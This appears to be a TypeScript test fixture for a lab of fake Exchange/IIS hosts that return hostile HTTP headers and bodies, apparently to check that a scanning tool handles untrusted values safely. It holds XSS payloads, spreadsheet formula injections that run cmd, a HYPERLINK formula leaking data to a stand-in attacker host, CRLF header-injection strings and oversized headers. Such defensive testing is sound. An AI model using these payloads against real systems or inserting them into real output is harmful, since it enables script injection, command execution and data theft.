/** Header-level hostility: answered over HTTP, but with values that must never be trusted or echoed raw. */
import type { LabHost } from '../estate.js';
import { renderRoute, type Route, type RouteTable } from '../routes.js';
import type { BodyCache, Hdr } from './common.js';

const HUGE_LINE = 1024 * 1024;

/** Header sets of the 'hostile-headers' hosts. No value contains a well-formed Exchange build. */
export function hostileHeaders(variant: string): Hdr[] {
  switch (variant) {
    case 'script':
      return [
        ['Server', '<script>alert(1)</script>'],
        ['X-OWA-Version', '<img src=x onerror=alert(document.domain)>'],
        ['X-Powered-By', '"><svg/onload=alert(1)>'],
        ['Content-Type', 'text/html'],
      ];
    case 'csv-formula':
      return [
        ['Server', `=cmd|' /C calc'!A0`],
        ['X-Powered-By', `+SUM(1+1)*cmd|' /C calc'!A0`],
        ['X-OWA-Version', `@HYPERLINK("http://attacker.invalid/?leak="&A1,"click")`],
        ['X-Note', `-2+3+cmd|' /C notepad'!'A1'`],
        ['Content-Type', 'text/html'],
      ];
    case 'long-value':
      return [
        ['Server', `IIS${'A'.repeat(16_000)}`],
        ['X-OWA-Version', '9'.repeat(4096)],
        ...Array.from({ length: 200 }, (_, i) => [`X-Pad-${i}`, 'x'.repeat(40)] as Hdr),
        ['Content-Type', 'text/html'],
      ];
    case 'non-utf8':
      return [
        // Invalid UTF-8 sequences and a build-like number with middle dots (not a build).
        ['Server', '\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc\xff\xfe'],
        ['X-OWA-Version', '15\xb71\xb72176\xb79'],
        ['X-Powered-By', '\x80\x81\x82\xfe\xff ASP.NET'],
        ['Content-Type', 'text/html; charset=utf-8'],
      ];
    default:
      // crlf-ish: encoded and escaped CR/LF, and one bare CR that a strict parser rejects.
      return [
        ['Server', 'Microsoft-IIS/10.0%0d%0aSet-Cookie:%20injected=1'],
        ['Location', '/owa/%0d%0aX-Injected:%20yes'],
        ['X-Escaped', 'line1\\r\\nX-Fake-Header: fake'],
        ['X-Bare-CR', 'one\rInjected-After-CR: two'],
        ['Content-Type', 'text/html'],
      ];
  }
}

export function hostileTable(host: LabHost): RouteTable {
  const r = renderRoute({
    status: 200,
    reason: 'OK',
    headers: hostileHeaders(host.variant),
    body: '<html><head><title><script>alert("title")</script></title></head><body>=cmd|\' /C calc\'!A0</body></html>',
  });
  return { exact: new Map(), prefixes: [], fallback: r };
}

/** Responses of 'oversized' hosts that fit a route (huge header line, many headers); the 50 MB body streams. */
export function oversizedTable(host: LabHost, cache: BodyCache): RouteTable {
  if (host.variant === 'huge-header-line') {
    const line = cache.get('huge-line', () => `HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/10.0\r\nX-Padding: ${'A'.repeat(HUGE_LINE)}\r\n`);
    const r: Route = { pre: line, post: Buffer.from('Content-Type: text/html\r\nContent-Length: 2\r\n\r\n'), body: Buffer.from('ok'), dynamic: null };
    return { exact: new Map(), prefixes: [], fallback: r };
  }
  const many = cache.get('many-headers', () => {
    let s = 'HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/10.0\r\n';
    for (let i = 0; i < 20_000; i++) s += `X-Header-${i}: value-${i}\r\n`;
    return s;
  });
  const r: Route = { pre: many, post: Buffer.from('Content-Type: text/html\r\nContent-Length: 2\r\n\r\n'), body: Buffer.from('ok'), dynamic: null };
  return { exact: new Map(), prefixes: [], fallback: r };
}
